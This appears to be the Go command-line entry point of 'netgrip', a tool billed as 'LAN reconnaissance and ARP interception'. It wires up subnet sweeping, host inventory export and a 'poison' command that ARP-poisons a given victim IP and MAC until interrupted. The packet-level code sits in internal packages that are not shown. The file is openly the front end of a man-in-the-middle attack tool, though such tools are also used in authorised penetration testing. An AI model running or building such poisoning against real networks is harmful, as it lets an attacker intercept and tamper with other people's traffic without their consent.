//go:build linux

package main

import (
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/urfave/cli/v2"

	"netgrip/internal/config"
	"netgrip/internal/discovery"
	"netgrip/internal/inventory"
	"netgrip/internal/manager"
	"netgrip/internal/platform"
)

func main() {
	logger := log.New(os.Stderr, "netgrip: ", log.LstdFlags)

	app := &cli.App{
		Name:  "netgrip",
		Usage: "LAN reconnaissance and ARP interception",
		Flags: []cli.Flag{
			&cli.StringFlag{
				Name:    "config",
				Aliases: []string{"c"},
				Usage:   "Path to the JSON config file",
			},
			&cli.StringFlag{
				Name:    "interface",
				Aliases: []string{"i"},
				Usage:   "OS identity of the adapter to use",
			},
		},
		Commands: []*cli.Command{
			{
				Name:  "adapters",
				Usage: "List network adapters",
				Action: func(c *cli.Context) error {
					return listAdapters(newManager(c, logger))
				},
			},
			{
				Name:  "devices",
				Usage: "List capture-library devices",
				Action: func(c *cli.Context) error {
					return listDevices(newManager(c, logger))
				},
			},
			{
				Name:  "topology",
				Usage: "Resolve and print the network topology",
				Action: func(c *cli.Context) error {
					return showTopology(c, newManager(c, logger))
				},
			},
			{
				Name:      "request",
				Usage:     "Send one ARP request",
				ArgsUsage: "<target-ip>",
				Action: func(c *cli.Context) error {
					return sendRequest(c, newManager(c, logger))
				},
			},
			{
				Name:  "scan",
				Usage: "Sweep the subnet and export the host inventory",
				Flags: []cli.Flag{
					&cli.StringFlag{Name: "output", Aliases: []string{"o"}, Usage: "Inventory output file"},
				},
				Action: func(c *cli.Context) error {
					return runScan(c, newManager(c, logger), logger)
				},
			},
			{
				Name:      "poison",
				Usage:     "Poison a victim until interrupted, then restore",
				ArgsUsage: "<victim-ip> <victim-mac>",
				Action: func(c *cli.Context) error {
					return runPoison(c, newManager(c, logger), logger)
				},
			},
		},
	}

	if err := app.Run(os.Args); err != nil {
		logger.Fatal(err)
	}
}

func loadConfig(c *cli.Context, logger *log.Logger) *config.Config {
	path := c.String("config")
	if path == "" {
		return config.Default()
	}
	cfg, err := config.Load(path)
	if err != nil {
		logger.Printf("config %s unusable (%v), using defaults", path, err)
		return config.Default()
	}
	return cfg
}

func newManager(c *cli.Context, logger *log.Logger) *manager.Manager {
	cfg := loadConfig(c, logger)
	return manager.New(platform.NewOSPort(logger), cfg, logger)
}

func selectedInterface(c *cli.Context, m *manager.Manager) (string, error) {
	if name := c.String("interface"); name != "" {
		return name, nil
	}
	adapters, err := m.EnumerateAdapters()
	if err != nil {
		return "", err
	}
	for _, a := range adapters {
		if a.IsActive && a.IPAddress != "" && a.Gateway != "" {
			return a.Name, nil
		}
	}
	return "", fmt.Errorf("no usable adapter found, pass --interface")
}

func initialize(c *cli.Context, m *manager.Manager) error {
	iface, err := selectedInterface(c, m)
	if err != nil {
		return err
	}
	if !m.Initialize(iface) {
		return fmt.Errorf("initialization on %s failed: %s", iface, m.LastError())
	}
	return nil
}

func listAdapters(m *manager.Manager) error {
	adapters, err := m.EnumerateAdapters()
	if err != nil {
		return err
	}
	for _, a := range adapters {
		state := "down"
		if a.IsActive {
			state = "up"
		}
		kind := "wired"
		if a.IsWireless {
			kind = "wireless"
		}
		fmt.Printf("%-16s %-17s %-15s %-15s %-15s %s/%s\n",
			a.Name, a.MACAddress, a.IPAddress, a.SubnetMask, a.Gateway, state, kind)
	}
	return nil
}

func listDevices(m *manager.Manager) error {
	devices, err := m.EnumerateCaptureDevices()
	if err != nil {
		return err
	}
	for _, d := range devices {
		fmt.Println(d)
	}
	return nil
}

func showTopology(c *cli.Context, m *manager.Manager) error {
	if err := initialize(c, m); err != nil {
		return err
	}
	defer m.Cleanup()

	topo := m.Topology()
	fmt.Printf("interface:   %s (%s)\n", topo.InterfaceName, topo.InterfaceMAC)
	fmt.Printf("local:       %s/%d (mask %s)\n", topo.LocalIP, topo.CIDR, topo.SubnetMask)
	fmt.Printf("gateway:     %s (%s)\n", topo.GatewayIP, topo.GatewayMAC)
	return nil
}

func sendRequest(c *cli.Context, m *manager.Manager) error {
	if c.NArg() != 1 {
		return fmt.Errorf("usage: netgrip request <target-ip>")
	}
	if err := initialize(c, m); err != nil {
		return err
	}
	defer m.Cleanup()

	if !m.SendArpRequest(c.Args().First()) {
		return fmt.Errorf("request failed: %s", m.LastError())
	}
	stats := m.PerformanceStats()
	fmt.Printf("sent %d packet(s), avg send time %.3f ms\n", stats.PacketsSent, stats.AvgSendTimeMs)
	return nil
}

func runScan(c *cli.Context, m *manager.Manager, logger *log.Logger) error {
	cfg := loadConfig(c, logger)
	if err := initialize(c, m); err != nil {
		return err
	}
	defer m.Cleanup()

	handle := m.Handle()
	if handle == nil {
		return fmt.Errorf("scan requires an open capture handle: %s", m.LastError())
	}

	results, err := discovery.Sweep(m.Engine(), handle, m.Topology(), cfg, logger)
	if err != nil {
		return err
	}

	var hostnames map[string]string
	if cfg.MDNS.Enabled {
		hostnames = discovery.ResolveHostnames(cfg.GetMDNSTimeout(), logger)
	}
	neighbors, err := m.NeighborTable()
	if err != nil {
		logger.Printf("neighbor table unavailable: %v", err)
	}

	hosts := inventory.Merge(results.Hosts, nil, neighbors, hostnames)
	alive := 0
	for _, h := range hosts {
		if h.IsAlive {
			alive++
			fmt.Printf("%-15s %-17s %s\n", h.Address, h.MAC, h.Hostname)
		}
	}
	fmt.Printf("%d hosts alive (sweep took %s)\n", alive, results.Duration.Round(time.Millisecond))

	output := c.String("output")
	if output == "" {
		output = cfg.Files.OutputFile
	}
	return inventory.ExportJSON(hosts, output)
}

func runPoison(c *cli.Context, m *manager.Manager, logger *log.Logger) error {
	if c.NArg() != 2 {
		return fmt.Errorf("usage: netgrip poison <victim-ip> <victim-mac>")
	}
	victimIP, victimMAC := c.Args().Get(0), c.Args().Get(1)

	if err := initialize(c, m); err != nil {
		return err
	}
	defer m.Cleanup()

	if !m.StartPoisoning(victimIP, victimMAC) {
		return fmt.Errorf("poisoning %s failed: %s", victimIP, m.LastError())
	}
	logger.Printf("poisoning %s, interrupt to restore", victimIP)

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	<-sig

	if !m.StopPoisoning(victimIP) {
		logger.Printf("no active record for %s at shutdown", victimIP)
	}
	stats := m.PerformanceStats()
	fmt.Printf("sent %d packet(s), %d send error(s)\n", stats.PacketsSent, stats.SendErrors)
	return nil
}
